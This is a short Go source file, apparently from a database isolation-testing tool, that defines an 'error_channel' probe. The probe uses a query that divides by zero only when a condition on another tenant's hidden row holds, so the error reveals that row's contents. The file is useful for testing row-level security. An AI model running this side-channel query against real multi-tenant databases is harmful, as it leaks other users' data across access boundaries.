package attack

import (
	"context"

	"github.com/jackc/pgx/v5"
)

var errorChannel = Probe{
	Name: "error_channel",
	Doc: `read another tenant's row by the errors it causes

A condition that fails on the wanted value, a division by zero say, tells whether it was ever worked out on a hidden row.`,
	Command: "SELECT", Kind: "isolation",
	Try: func(ctx context.Context, tx pgx.Tx, t *Target) (bool, error) {
		_, err := t.query(ctx, tx, "SELECT 1 FROM "+t.Relation+" WHERE 1 / (CASE WHEN "+t.where()+" THEN 0 ELSE 1 END) < 0")
		if state(err) == divisionByZero {
			return true, nil
		}
		return false, err
	},
}
